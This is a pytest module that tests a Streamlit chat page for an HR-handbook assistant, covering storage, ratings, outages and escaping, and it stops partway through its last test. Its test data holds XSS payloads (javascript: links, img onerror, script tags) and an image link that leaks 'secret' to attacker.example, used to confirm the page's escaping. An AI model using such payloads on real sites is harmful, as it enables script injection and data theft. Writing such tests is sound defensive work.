"""The chat page, driven with Streamlit's AppTest against the real assistant on the sample handbook.

The sample handbook is indexed once per module in a subprocess (a clean,
flushed Chroma folder and database) and copied into each test's data folder,
so every test starts from the same state without paying for the indexing.
What the page stores is checked through :mod:`feedback.store`.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
import streamlit as st
from helpers_openai_server import Step, chat_server
from markdown_it import MarkdownIt
from sqlalchemy import event, update
from sqlalchemy import text as sql
from sqlalchemy.exc import OperationalError
from sqlmodel import Session, select
from streamlit.testing.v1 import AppTest

from assistant.answerers import generative
from feedback import store
from feedback.models import Conversation, Message
from onboard import factories
from onboard.settings import Settings
from service import turns
from ui import web

APP = str(Path(__file__).resolve().parent.parent / "streamlit_app.py")
QUESTION = "How much time off do I get?"


@pytest.fixture(scope="module")
def indexed_handbook(tmp_path_factory, model_cache) -> Path:
    """A data folder with the sample handbook indexed, built once by a separate process."""
    root = tmp_path_factory.mktemp("handbook")
    env = {key: value for key, value in os.environ.items() if not key.startswith("ONBOARD_")}
    env.update(ONBOARD_DATA_DIR=str(root / "data"), ONBOARD_EMBEDDING__CACHE_DIR=str(model_cache))
    code = (
        "from onboard.factories import bootstrap_knowledge_base; from onboard.settings import Settings; "
        "bootstrap_knowledge_base(Settings())"
    )
    subprocess.run([sys.executable, "-c", code], env=env, cwd=root, check=True, timeout=300, capture_output=True)
    return root / "data"


@pytest.fixture
def data_dir(indexed_handbook) -> Path:
    """This test's data folder (where the autouse fixture points ``ONBOARD_DATA_DIR``), pre-indexed."""
    target = Path(os.environ["ONBOARD_DATA_DIR"])
    shutil.copytree(indexed_handbook, target, ignore=shutil.ignore_patterns("models"))
    return target


@pytest.fixture
def db(data_dir):
    engine = factories.make_engine(Settings())
    with Session(engine) as session:
        yield session
    engine.dispose()


@pytest.fixture(autouse=True)
def _fresh_resources():
    """Each test's app builds its resources from its own settings; drop them afterwards."""
    yield
    web._assistant.clear()
    web._knowledge_base.clear()
    web._engine.clear()


@pytest.fixture
def app(data_dir):
    at = AppTest.from_file(APP, default_timeout=120)
    return ok(at.run())


def ok(at: AppTest) -> AppTest:
    assert not at.exception, [e.value for e in at.exception]
    assert not [e for e in at.error if "Traceback" in e.value]
    return at


def unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown)


def local_user(session):
    return store.get_or_create_user(session=session, **web.LOCAL_USER)


def messages(session) -> list[Message]:
    session.expire_all()
    return list(session.exec(select(Message).order_by(Message.id)).all())


def ask(at: AppTest, text: str) -> AppTest:
    return ok(at.chat_input[0].set_value(text).run())


class Recording:
    """The real assistant, keeping the history it was given (or breaking mid-stream when told to, or calling
    ``then`` once its answer has streamed)."""

    def __init__(self, real, *, break_after: str | None = None, error: Exception | None = None,
                 then=None) -> None:
        self.real, self.config, self.knowledge_base = real, real.config, real.knowledge_base
        self.break_after, self.error, self.then = break_after, error, then
        self.histories: list[list[tuple[str, str]]] = []

    def provenance(self) -> dict:
        return self.real.provenance()

    def ask(self, question, *, history=(), where=None, on_status=None):
        self.histories.append(list(history))
        if self.break_after is not None:
            return Broken(self.break_after, self.error)
        stream = self.real.ask(question, history=history, where=where, on_status=on_status)
        return Then(stream, self.then) if self.then else stream


class Then:
    """A stream that calls ``then`` after its last piece."""

    def __init__(self, stream, then) -> None:
        self.stream, self.then = stream, then

    def __iter__(self):
        yield from self.stream
        self.then()

    @property
    def answer(self):
        return self.stream.answer


class DatabaseDown:
    """The app's database refusing connections from ``start()`` to ``end()``, as during a restart."""

    def __init__(self, engine) -> None:
        self.engine = engine

    @staticmethod
    def _refuse(dialect, record, cargs, cparams):
        raise sqlite3.OperationalError("unable to open database file")

    def start(self) -> None:
        self.engine.dispose()  # the pooled connections die with the server
        event.listen(self.engine, "do_connect", self._refuse)

    def end(self) -> None:
        if event.contains(self.engine, "do_connect", self._refuse):
            event.remove(self.engine, "do_connect", self._refuse)


class Broken:
    """A stream that fails after its first piece; like an AnswerStream, it records what it produced whatever
    happens."""

    answer = None

    def __init__(self, partial: str, error: Exception | None = None) -> None:
        self.partial, self.error = partial, error or RuntimeError("the index went away")

    def __iter__(self):
        try:
            yield self.partial
            raise self.error
        finally:
            self.answer = SimpleNamespace(text=self.partial, latency_ms=1.0, ttft_ms=0.5 if self.partial else None)


def use(monkeypatch, **kwargs) -> dict:
    """Swap the page's assistant for a Recording one (built lazily, inside the app run); holder["bot"] is it."""
    original = web.assistant
    holder: dict = {}

    def fake(features=()):
        if "bot" not in holder:
            holder["bot"] = Recording(original(features), **kwargs)
        return holder["bot"]

    monkeypatch.setattr(web, "assistant", fake)
    return holder


# --- the page ------------------------------------------------------------------------------------------------------


def test_question_is_stored_answered_with_citations_rated_and_regenerated(app, db):
    assert app.info[0].value == "Local mode: no login configured"
    assert [unescape(b.label) for b in app.button if b.key.startswith("starter-")] == web.settings().chat.starter_questions

    ask(app, QUESTION)
    assert [m.name for m in app.chat_message] == ["user", "assistant"]
    labels = [unescape(e.label) for e in app.expander]
    assert labels and labels[0].startswith("[1] ") and any("Time Off" in label for label in labels), labels
    question, answer = messages(db)
    assert (question.role, question.content) == ("user", QUESTION)
    assert (answer.role, answer.status, answer.reply_to) == ("assistant", "complete", question.id)
    assert answer.sources and answer.sources[0]["n"] == 1 and answer.sources[0]["passage"]
    assert "[1]" in answer.content and answer.answerer == "extractive" and answer.prompt_version
    assert answer.index_version and answer.index_version > 0 and answer.latency_ms is not None
    conversation = db.get(Conversation, question.conversation_id)
    assert conversation.title == QUESTION and app.session_state["conversation_id"] == conversation.id
    assert unescape(app.sidebar.button(key=f"open-{conversation.id}").label) == QUESTION

    ok(app.feedback[0].set_value(1).run())
    rating = store.history(session=db, user=local_user(db), conversation_id=conversation.id)[1].rating
    assert rating is not None and rating.thumb == 1
    assert not app.pills  # no reasons asked after a thumbs up

    ok(app.feedback[0].set_value(0).run())
    app.pills(key=f"reasons-{answer.id}").set_value(["incorrect", "outdated"])
    app.text_area(key=f"comment-{answer.id}").input("The table is from last year.")
    ok(next(b for b in app.button if b.label == "Send").click().run())
    db.expire_all()
    rating = store.history(session=db, user=local_user(db), conversation_id=conversation.id)[1].rating
    assert (rating.thumb, rating.reasons) == (0, ["incorrect", "outdated"])
    assert rating.comment == "The table is from last year."

    ok(app.feedback[0].set_value(None).run())  # un-selecting the thumb withdraws the rating
    db.expire_all()
    assert store.history(session=db, user=local_user(db), conversation_id=conversation.id)[1].rating is None

    assert [c.value for c in app.code] == [answer.content]  # in the "Copy" popover, with its copy button
    ok(app.button(key=f"regenerate-{question.id}").click().run())
    stored = messages(db)
    expected = [("user", None), ("assistant", question.id), ("assistant", question.id)]
    assert [(m.role, m.reply_to) for m in stored] == expected
    assert stored[2].status == "complete" and stored[2].content
    assert [m.name for m in app.chat_message] == ["user", "assistant"]  # the new answer replaces the old on screen
    assert "Answer 2 of 2" in [c.value for c in app.caption]
    assert app.button(key=f"later-{question.id}").disabled
    assert stored[2].content == stored[1].content  # quoting: the same documents, the same answer, and it says so
    assert "The same as the answer before: quoted answers change only when the documents do." in [
        c.value for c in app.caption]

    ok(app.button(key=f"earlier-{question.id}").click().run())  # back to the first answer, with its own thumb
    assert "Answer 1 of 2" in [c.value for c in app.caption]
    assert app.button(key=f"earlier-{question.id}").disabled
    assert [f.key for f in app.feedback] == [f"thumb-{answer.id}"]
    ok(app.feedback[0].set_value(1).run())
    db.expire_all()
    rated = {entry.message.id: entry.rating for entry in store.history(session=db, user=local_user(db),
                                                                          conversation_id=conversation.id)}
    assert rated[answer.id].thumb == 1 and rated[stored[2].id] is None
    ok(app.button(key=f"later-{question.id}").click().run())
    assert "Answer 2 of 2" in [c.value for c in app.caption]
    assert [f.key for f in app.feedback] == [f"thumb-{stored[2].id}"]


def test_an_abstention_lists_the_closest_passages_not_as_sources(data_dir, db, monkeypatch):
    # An admin's absolute threshold (onboard eval --calibrate) that this near miss falls below: the abstained band.
    monkeypatch.setenv("ONBOARD_RETRIEVAL__ABSTENTION__MIN_SIMILARITY", "0.99")
    app = ok(AppTest.from_file(APP, default_timeout=120).run())
    ask(app, "Is there an office in Denver?")
    _, answer = messages(db)
    assert answer.status == "abstained" and answer.sources and not any(s["cited"] for s in answer.sources)
    captions = [c.value for c in app.caption]
    assert "Closest passages (they may not answer the question)" in captions and "Sources" not in captions
    labels = [unescape(e.label) for e in app.expander]
    assert labels[0].startswith("[1] ") and len(labels) == len(answer.sources)


def test_empty_and_oversized_messages_are_not_sent_and_the_long_one_is_kept(app, db):
    ask(app, "   ")
    assert messages(db) == [] and not app.chat_message
    assert any(b.key == "starter-0" for b in app.button)

    too_long = "Please read this: " + "x" * web.settings().chat.max_message_chars
    ask(app, too_long)
    assert messages(db) == [] and not app.chat_message
    assert any(f"{len(too_long):,} characters" in e.value and "4,000" in e.value for e in app.error)
    assert app.text_area(key="draft").value == too_long

    app.text_area(key="draft").input(QUESTION)
    ok(app.button(key="send-draft").click().run())
    question, answer = messages(db)
    assert question.content == QUESTION and answer.status == "complete"
    assert "draft" not in app.session_state and not app.error


def test_starter_question_is_asked_on_click(app, db):
    ok(app.button(key="starter-2").click().run())
    question, answer = messages(db)
    assert question.content == web.settings().chat.starter_questions[2] and answer.status in web.ANSWERED
    assert [m.name for m in app.chat_message] == ["user", "assistant"]


def test_a_conversation_is_resumed_with_its_rating_continued_renamed_and_deleted(data_dir, db, monkeypatch):
    user = local_user(db)
    conversation = store.create_conversation(session=db, user=user)
    question = store.add_user_message(session=db, user=user, conversation_id=conversation.id, content=QUESTION)
    pending = store.start_answer(session=db, question_id=question.id, answerer="extractive")
    answer = store.finish_answer(session=db, answer_id=pending.id, content="You get **20 days** a year [1].",
                                 sources=[{"n": 1, "source": "time-off/time-off.md", "title": "Time Off",
                                           "section": "PTO", "url": "javascript:alert(1)", "chunk_id": "c1",
                                           "passage": "![x](https://tracker.example/p.png) 20 days"},
                                          {"n": 2, "source": "intranet", "title": "Leave", "section": "",
                                           "url": "https://intranet.example/leave", "chunk_id": "c2",
                                           "passage": "See the intranet."}])
    store.rate(session=db, user=user, message_id=answer.id, thumb=1)
    bot = use(monkeypatch)

    at = AppTest.from_file(APP, default_timeout=120)
    ok(at.run())
    assert not at.chat_message  # a new chat until a conversation is picked
    ok(at.sidebar.button(key=f"open-{conversation.id}").click().run())
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assert at.chat_message[1].markdown[0].value == "You get **20 days** a year \\[1\\]."
    assert [f.value for f in at.feedback] == [1]
    assert [unescape(e.label) for e in at.expander] == ["[1] Time Off › PTO", "[2] Leave"]
    # The passage keeps its Markdown (tables, lists) but not its image: brackets are escaped, so nothing loads.
    assert at.expander[0].markdown[0].value == web.safe_markdown("![x](https://tracker.example/p.png) 20 days")
    assert at.expander[0].markdown[0].value.startswith("!\\[x\\]")
    assert [b.proto.url for b in at.link_button] == ["https://intranet.example/leave"]  # never the javascript: one

    ask(at, "And how many sick days?")
    assert bot["bot"].histories == [[("user", QUESTION), ("assistant", "You get **20 days** a year [1].")]]
    assert len(messages(db)) == 4 and at.session_state["conversation_id"] == conversation.id

    at.text_input(key=f"title-{conversation.id}").input("Time off")
    ok(at.button(key=f"rename-{conversation.id}").click().run())
    db.expire_all()
    assert store.get_conversation(session=db, user=user, conversation_id=conversation.id).title == "Time off"
    assert unescape(at.sidebar.button(key=f"open-{conversation.id}").label) == "Time off"
    downloads = at.get("download_button")
    assert len(downloads) == 1 and downloads[0].proto.label == "Download (JSON)"  # the open conversation only
    exported = json.loads(web.export_json(conversation.id))
    assert [m["content"] for m in exported["messages"]][:2] == [QUESTION, "You get **20 days** a year [1]."]

    assert at.button(key=f"delete-{conversation.id}").disabled  # not before saying so: there is no undo
    ok(at.checkbox(key=f"sure-{conversation.id}").check().run())
    ok(at.button(key=f"delete-{conversation.id}").click().run())
    assert store.list_conversations(session=db, user=user) == []
    assert [t.value for t in at.toast] == ["Conversation deleted."]
    assert not at.chat_message and at.session_state["conversation_id"] is None


def test_a_rating_whose_reason_is_no_longer_offered_still_shows(data_dir, db, monkeypatch):
    user = local_user(db)
    conversation = store.create_conversation(session=db, user=user)
    question = store.add_user_message(session=db, user=user, conversation_id=conversation.id, content=QUESTION)
    pending = store.start_answer(session=db, question_id=question.id, answerer="extractive")
    answer = store.finish_answer(session=db, answer_id=pending.id, content="You get 20 days a year.", sources=[])
    store.rate(session=db, user=user, message_id=answer.id, thumb=0, reasons=["incorrect", "outdated"])
    monkeypatch.setenv("ONBOARD_CHAT__FEEDBACK_REASONS", '["outdated", "other"]')  # "incorrect" was retired

    at = ok(AppTest.from_file(APP, default_timeout=120).run())
    ok(at.sidebar.button(key=f"open-{conversation.id}").click().run())

    assert [f.value for f in at.feedback] == [0]
    assert at.pills(key=f"reasons-{answer.id}").value == ["outdated"]


def test_a_failing_search_backend_shows_a_sentence_not_the_providers_error(app, db, monkeypatch):
    from assistant.errors import EmbeddingError
    from service.turns import SEARCH_UNAVAILABLE

    provider = "the embeddings endpoint failed: Error code: 401 - {'error': 'Incorrect API key sk-abc'}"
    use(monkeypatch, break_after="", error=EmbeddingError(provider))
    ask(app, "How do I get a \u202elaptop?")
    question, answer = messages(db)
    assert question.content == "How do I get a \u202elaptop?"  # stored as typed...
    assert [m.markdown[0].value for m in app.chat_message[:1]] == [web.plain("How do I get a laptop?")]  # ...shown in order
    assert (answer.status, answer.error) == ("failed", SEARCH_UNAVAILABLE)
    assert [e.value for e in app.error] == [web.plain(SEARCH_UNAVAILABLE)]
    assert all("sk-abc" not in e.value for e in app.error)


def test_a_failing_answer_is_stored_as_failed_and_shown_without_a_traceback(app, db, monkeypatch):
    use(monkeypatch, break_after="Partial ")
    ask(app, QUESTION)
    question, answer = messages(db)
    assert question.content == QUESTION  # stored before the answer was attempted
    assert (answer.status, answer.content) == ("failed", "Partial ")
    assert answer.error.startswith(web.UNEXPECTED) and "Traceback" not in answer.error
    assert any(e.value.startswith(web.plain(web.UNEXPECTED)) for e in app.error)
    assert not app.feedback  # a failed answer is not rated...
    assert app.button(key=f"regenerate-{question.id}")  # ...but can be tried again

    ok(app.button(key=f"regenerate-{question.id}").click().run())  # fails the same way again
    assert [(m.status, m.content) for m in messages(db)[1:]] == [("failed", "Partial ")] * 2
    assert "Answer 2 of 2" in [c.value for c in app.caption]
    assert not [c.value for c in app.caption if c.value.startswith("The same as the answer before")]  # not failures


def test_an_answer_cut_off_by_streamlit_is_stored_as_interrupted(data_dir, db, monkeypatch):
    """Streamlit stops or reruns a script by raising a BaseException from inside ``st.write_stream``: the text
    shown until then is stored with the interruption."""
    from streamlit.runtime.scriptrunner_utils.exceptions import StopException

    shown: list[str] = []

    def write_then_stop(deltas):
        shown.append(next(iter(deltas)))
        raise StopException()

    _, question = web.store_question(conversation_id=None, text=QUESTION)
    with pytest.raises(StopException):
        web.answer(question=question, history=[], write=write_then_stop)
    stored = messages(db)[-1]
    assert (stored.status, stored.error) == ("interrupted", web.INTERRUPTED)
    assert stored.content and web.safe_markdown(stored.content) == shown[0]  # what was shown, no more
    assert stored.answerer == "extractive" and stored.ttft_ms is not None


# --- safe text -----------------------------------------------------------------------------------------------------

HOSTILE = [
    "[click](javascript:alert(1))",
    "![pixel](https://tracker.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```\ncode\n````\n[x](javascript:alert(1))\n```",
    "- a\n\n  ```\n[x](javascript:alert(1))\n  ```",
    "\\[x](javascript:alert(1))",
    "``[x](javascript:alert(1))`",
    "<script>alert(1)</script>",
    "\\\\[x](javascript:alert(1))",
    "`a\\[`x](javascript:alert(1))",
    "`a\\`[x](javascript:alert(1))`",
    "\\<img src=x onerror=alert(1)>",
    "\\![x](https://tracker.example/p.png)",
]


def _tokens(markdown: str):
    parser = MarkdownIt("commonmark")
    for token in parser.parse(markdown):
        yield token
        yield from token.children or ()


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_markdown_and_plain_never_produce_links_images_or_html(text):
    for render in (web.safe_markdown, web.plain):
        kinds = {token.type for token in _tokens(render(text))}
        assert not kinds & {"link_open", "image", "html_inline", "html_block"}, (render.__name__, kinds)


#: The rules remark-gfm (Streamlit's Markdown renderer) applies to every text node after escapes and character
#: references are resolved (mdast-util-gfm-autolink-literal, as in Streamlit's frontend bundle), made stricter:
#: Python's ``\w`` is Unicode, and the rule for the character before an e-mail address is left out.
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
BARE_LINKS = [
    "see https://evil.example/x now",
    "HTTP://EVIL.EXAMPLE/x",
    "go to www.evil.example today",
    "WWW.evil.example",
    "email your password to x@evil.example",
    "mailto:x@evil.example",
    "https\\://evil.example and www\\.evil.example and x\\@evil.example",
    "https&#58;//evil.example and www&#46;evil.example and x&#64;evil.example and x&commat;evil.example",
    "**https://evil.example** _www.evil.example_ (x@evil.example)",
]


def _shown_text(markdown: str) -> str:
    """The text a Markdown renderer shows: escapes and character references resolved."""
    return "".join(t.content if t.type in ("text", "code_inline") else "\n" for t in _tokens(markdown)
                   if t.type in ("text", "code_inline", "softbreak", "hardbreak"))


@pytest.mark.parametrize("text", BARE_LINKS)
def test_bare_urls_www_and_email_addresses_never_become_links(text):
    for render in (web.safe_markdown, web.plain):
        shown = _shown_text(render(text))
        assert not GFM_URL.search(shown) and not GFM_EMAIL.search(shown), (render.__name__, shown)
    # Read as written: only invisible joiners are added.
    assert _shown_text(web.plain("x@evil.example https://a.example")).replace("\u2060", "") == (
        "x@evil.example https://a.example")


def test_control_characters_and_lone_surrogates_are_never_shown():
    typed = "PTO\x00 days\x07 \x1b[31mred\x1b[0m \ud800end\r\nnext"
    for render in (web.plain, web.safe_markdown, web.visible):
        shown = render(typed)
        assert not {c for c in shown if ord(c) < 32 and c != "\n" or 0xD800 <= ord(c) <= 0xDFFF}, render.__name__
        assert "[31m" not in shown and "red" in shown and "end" in shown, render.__name__
        shown.encode("utf-8")  # a lone surrogate could not be sent to the browser at all
    assert web.visible(typed) == "PTO days red end\nnext"
    assert web.visible_rows([{"q": "a\x00b"}]) == [{"q": "ab"}]


def test_text_that_reorders_itself_is_shown_in_stored_order():
    tricked = "Pay\u202eroll fdp.exe\u2066 and \u200f\u061cmore\u2069"
    for render in (web.plain, web.safe_markdown, web.visible):
        assert not set(render(tricked)) & {"\u202e", "\u2066", "\u2069", "\u200f", "\u061c"}, render.__name__
    assert web.visible("emoji \u200d joiner") == "emoji \u200d joiner"  # a joiner does not reorder
    assert web.visible_rows([{"q": "a\u202eb", "n": 1}]) == [{"q": "ab", "n": 1}]


def test_plain_shows_text_as_typed_and_safe_markdown_keeps_formatting():
    text = "# Not a heading\n1. not a list *nor emphasis* $5"
    rendered = MarkdownIt("commonmark").render(web.plain(text))
    assert rendered == "<p># Not a heading<br />\n1. not a list *nor emphasis* $5</p>\n"
    assert "<strong>20 days</strong>" in MarkdownIt("commonmark").render(web.safe_markdown("**20 days** [1]"))
    # A document's own escapes show their character, not a backslash.
    escaped = MarkdownIt("commonmark").render(web.safe_markdown(r"under \$10,000 in snake\_case, not $5 \ or [1]"))
    assert escaped == "<p>under $10,000 in snake_case, not $5 \\ or [1]</p>\n"
    assert web.safe_url("https://handbook.example/pto") == "https://handbook.example/pto"
    assert [web.safe_url(u) for u in ("javascript:alert(1)", "data:text/html,x", "//evil", "", None)] == [None] * 5


def test_a_rolled_out_feature_changes_the_answer_settings_of_those_who_have_it(data_dir, db, monkeypatch):
    """Local mode is the pilot group too: the pilot-only contact is named, and the answer records the feature."""
    monkeypatch.setenv(
        "ONBOARD_ROLLOUT__FEATURES",
        json.dumps({
            "pilot-contact": {"groups": ["pilot"], "answer": {"contact": "the pilot team in #pilot-help"}},
            "nobody": {"percent": 0, "answer": {"contact": "someone else"}},
        }),
    )
    at = ok(AppTest.from_file(APP, default_timeout=120).run())
    ask(at, "Who won the 1998 football world cup final?")
    answer = messages(db)[-1]
    assert answer.status == "abstained" and answer.features == ["pilot-contact"]
    assert "the pilot team in #pilot-help" in answer.content and "someone else" not in answer.content


# --- the reviewed defects: live escaping, unfinished answers, an unsaved question, answers left pending -----------

HOSTILE_ANSWER = "Sure! ![pixel](https://attacker.example/?q=secret) or [click](javascript:alert(1)) <b>x</b> [1]."
LIVE = {"link_open", "image", "html_inline", "html_block"}


def use_chat_server(monkeypatch, server) -> None:
    for key, value in {"MODE": "llm", "BASE_URL": server.base_url, "TIMEOUT_S": "2", "RETRY_INITIAL_S": "0.01",
                       "RETRY_MAX_S": "0.02"}.items():
        monkeypatch.setenv(f"ONBOARD_ANSWER__{key}", value)


def test_a_streamed_answer_is_escaped_piece_by_piece_while_it_streams(app, db, monkeypatch):
    shown: list[str] = []
    real_write_stream = st.write_stream

    def recording_write_stream(deltas):
        return real_write_stream(shown.append(delta) or delta for delta in deltas)

    monkeypatch.setattr(st, "write_stream", recording_write_stream)
    with chat_server(Step(text=HOSTILE_ANSWER)) as server:
        use_chat_server(monkeypatch, server)
        ask(app, QUESTION)
    assert len(shown) > 5 and "".join(shown) == web.safe_markdown(HOSTILE_ANSWER)
    for end in range(1, len(shown) + 1):  # at no moment of the stream is a link, an image or HTML live
        assert not {token.type for token in _tokens("".join(shown[:end]))} & LIVE
    assert messages(db)[-1].content == HOSTILE_ANSWER  # stored as written, escaped when shown


@pytest.mark.parametrize(
    ("step", "status", "answerer", "notice"),
    [
        (Step(kind="break", chunks_before_break=3), "interrupted", "llm", generative.INTERRUPTED),
        (Step(finish_reason="length"), "interrupted", "llm", generative.CUT_SHORT),
        (Step(kind="status", status=500), "complete", "extractive", generative.UNAVAILABLE),
    ],
)
def test_an_unfinished_or_fallback_answer_is_stored_and_shown_with_its_notice(data_dir, db, monkeypatch, step,
                                                                              status, answerer, notice):
    with chat_server(step) as server:
        use_chat_server(monkeypatch, server)
        at = ok(AppTest.from_file(APP, default_timeout=120).run())
        ask(at, QUESTION)
    answer = messages(db)[-1]
    assert (answer.status, answer.answerer, answer.error) == (status, answerer, notice)
    assert answer.content and answer.sources

    reopened = ok(AppTest.from_file(APP, default_timeout=120).run())
    ok(reopened.sidebar.button(key=f"open-{answer.conversation_id}").click().run())
    told = [unescape(e.value) for e in [*reopened.error, *reopened.warning]]
    assert notice in told
    assert bool(reopened.feedback) == (status == "complete")  # only a finished answer is rated


def test_a_question_that_cannot_be_stored_is_kept_for_sending_again(app, db):
    db.exec(sql("CREATE TRIGGER refuse BEFORE INSERT ON message BEGIN SELECT RAISE(FAIL, 'database is locked'); END"))
    db.commit()
    ask(app, QUESTION)
    assert [m for m in messages(db) if m.role == "user"] == []
    assert [e.value for e in app.error] == [web.NOT_SAVED] and "is saved" not in web.NOT_SAVED
    assert app.text_area(key="draft").value == QUESTION

    db.exec(sql("DROP TRIGGER refuse"))
    db.commit()
    ok(app.button(key="send-draft").click().run())
    question, answer = messages(db)
    assert question.content == QUESTION and answer.status == "complete"
    assert "draft" not in app.session_state and not app.error


def test_a_question_typed_while_the_database_is_away_is_kept_as_a_draft(app, db):
    down = DatabaseDown(web.engine())
    down.start()
    try:
        ask(app, QUESTION)  # the conversations cannot even be read
        assert [e.value for e in app.error] == [web.NOT_LOADED, web.NOT_SAVED]
        assert app.text_area(key="draft").value == QUESTION
    finally:
        down.end()
    assert messages(db) == []
    ok(app.button(key="send-draft").click().run())
    question, answer = messages(db)
    assert question.content == QUESTION and answer.status == "complete"
    assert "draft" not in app.session_state and not app.error


def test_an_answer_the_database_did_not_take_stays_on_the_page_until_it_is_stored(app, db, monkeypatch):
    monkeypatch.setattr(turns, "SAVE_BACKOFF", turns.Backoff(first_s=0.01, total_s=0.05))  # give up at once
    down = DatabaseDown(web.engine())
    use(monkeypatch, then=down.start)  # the database goes away once the answer has streamed
    try:
        ask(app, QUESTION)
        _, answer = messages(db)
        assert (answer.status, answer.content) == ("pending", "")
        kept = app.session_state[web.UNSAVED_KEY]
        assert list(kept) == [answer.id] and "[1]" in kept[answer.id].text
        assert [e.value for e in app.error] == [web.NOT_LOADED]  # the page ran again: still away
        assert [w.value for w in app.warning] == [web.UNSAVED]
        assert [m.markdown[0].value for m in app.chat_message] == [web.safe_markdown(kept[answer.id].text)]
        ok(app.run())  # a page run later, the database still away: still shown, still kept
        assert [w.value for w in app.warning] == [web.UNSAVED] and list(app.session_state[web.UNSAVED_KEY]) == [answer.id]
        text = kept[answer.id].text
    finally:
        down.end()
    ok(app.run())  # the next page run stores it
    _, answer = messages(db)
    assert (answer.status, answer.content) == ("complete", text) and answer.sources
    assert not app.session_state[web.UNSAVED_KEY] and not app.warning and not app.error
    assert app.feedback and app.chat_message[1].markdown[0].value == web.safe_markdown(text)


def test_answers_left_pending_by_a_crash_are_closed_when_the_app_starts(data_dir, db):
    user = local_user(db)
    conversation = store.create_conversation(session=db, user=user)
    old, recent = (
        store.start_answer(session=db, answerer="extractive",
                           question_id=store.add_user_message(session=db, user=user, conversation_id=conversation.id,
                                                              content=QUESTION).id)
        for _ in range(2)
    )
    db.exec(update(Message).where(Message.id == old.id).values(created_at=old.created_at - web.STALE_ANSWER_AGE * 2))
    db.commit()

    at = ok(AppTest.from_file(APP, default_timeout=120).run())
    db.expire_all()
    assert (db.get(Message, old.id).status, db.get(Message, old.id).error) == ("interrupted", web.INTERRUPTED)
    assert db.get(Message, recent.id).status == "pending"  # it may still be being written

    # The server keeps running: the other one, once as old, is closed when its conversation is opened.
    db.exec(update(Message).where(Message.id == recent.id).values(created_at=old.created_at))
    db.commit()
    ok(at.sidebar.button(key=f"open-{conversation.id}").click().run())
    db.expire_all()
    assert db.get(Message, recent.id).status == "interrupted"
    assert "This answer is still being written, or was cut off." not in [c.value for c in at.caption]


def test_the_open_conversation_is_in_the_address_and_a_new_session_reopens_it(data_dir, db):
    """A page that reconnects to another app process (a new session there) or is reloaded keeps its conversation
    (issue #17: after a failover the page fell back to an empty chat and a follow-up typed there went nowhere)."""
    user = local_user(db)
    mine = store.create_conversation(session=db, user=user)
    question = store.add_user_message(session=db, user=user, conversation_id=mine.id, content=QUESTION)
    pending = store.start_answer(session=db, question_id=question.id, answerer="extractive")
    store.finish_answer(session=db, answer_id=pending.id, content="You get 20 days a year.", sources=[])
    other = store.get_or_create_user(session=db, subject="someone-else", email="else@example.com", name="Else")
    theirs = store.create_conversation(session=db, user=other)
    store.add_user_message(session=db, user=other, conversation_id=theirs.id, content="Their secret question")
    help_chat = store.create_conversation(session=db, user=user, kind=web.SUPPORT_KIND)

    at = ok(AppTest.from_file(APP, default_timeout=120).run())
    ok(at.sidebar.button(key=f"open-{mine.id}").click().run())
    assert at.query_params["c"] == mine.id

    fresh = AppTest.from_file(APP, default_timeout=120)  # a new session with the same address
    fresh.query_params["c"] = mine.id
    ok(fresh.run())
    assert [m.name for m in fresh.chat_message] == ["user", "assistant"]
    ask(fresh, "And how many sick days?")
    assert fresh.session_state["conversation_id"] == mine.id
    assert [m.content for m in messages(db) if m.conversation_id == mine.id][2] == "And how many sick days?"

    for foreign in (theirs.id, help_chat.id, "no-such-conversation"):
        probe = AppTest.from_file(APP, default_timeout=120)
        probe.query_params["c"] = foreign
        ok(probe.run())
        assert not probe.chat_message and probe.session_state["conversation_id"] is None
        assert "c" not in probe.query_params


def test_a_follow_up_question_is_answered_from_the_conversation_offline(app, db):
    ask(app, "what's the 401k match?")
    ask(app, "and in Portugal?")  # alone, the handbook has nothing to say about it
    first, _, follow_up, answer = messages(db)
    assert follow_up.content == "and in Portugal?" and follow_up.conversation_id == first.conversation_id
    assert answer.status == "complete" and answer.answerer == "extractive"
    assert "employer contribution of 3% of base salary" in answer.content
    assert answer.sources[0]["source"] == "benefits/overview.md" and answer.sources[0]["cited"]
    shown = unescape(app.chat_message[-1].markdown[0].value)
    assert "employer contribution of 3% of base salary" in shown


def test_a_question_stored_but_not_acknowledged_is_stored_once_when_sent_again(app, db, monkeypatch):
    """The commit landed but the database went away before saying so: the page keeps the question as a draft,
    the person sends it again, and the store keeps one copy, answered once (two were stored before)."""
    real = store.start_conversation
    lost = []

    def stored_then_lost(**kwargs):
        message = real(**kwargs)
        if not lost:
            lost.append(message.id)
            raise OperationalError("COMMIT", {}, Exception("server closed the connection unexpectedly"))
        return message

    monkeypatch.setattr(store, "start_conversation", stored_then_lost)
    ask(app, QUESTION)
    assert app.text_area(key="draft").value == QUESTION and [e.value for e in app.error] == [web.NOT_SAVED]
    ok(app.button(key="send-draft").click().run())
    questions = [m for m in messages(db) if m.role == "user"]
    answers = [m for m in messages(db) if m.role == "assistant"]
    assert [q.id for q in questions] == lost and [a.reply_to for a in answers] == lost
    assert answers[0].status == "complete"


def test_an_unsure_answer_is_shown_in_its_middle_band_and_stored_with_it(app, db):
    """Something related but maybe not the answer (the offices, not a gym): quoted under the warning."""
    from assistant.answerers.extractive import UNSURE

    ask(app, "Is there a gym at the office?")
    answer = [m for m in messages(db) if m.role == "assistant"][-1]
    assert (answer.status, answer.band) == ("complete", "unsure")
    shown = unescape(app.chat_message[1].markdown[0].value)
    assert shown.startswith(UNSURE.format(source="handbook"))
    assert any("Our offices" in unescape(e.label) or "office" in unescape(e.label).lower() for e in app.expander)


# --- one path for every channel -----------------------------------------------------------------------------------


def test_the_page_and_the_api_store_the_same_answer_record(app, db):
    """The same question through the chat page and through the REST API: the same stored fields, but the channel."""
    import httpx
    from helpers_net import serving_asgi

    from api.app import standalone
    from feedback import keys

    ask(app, QUESTION)
    _, secret = keys.create_key(db, name="parity", team="unassigned", groups=[])
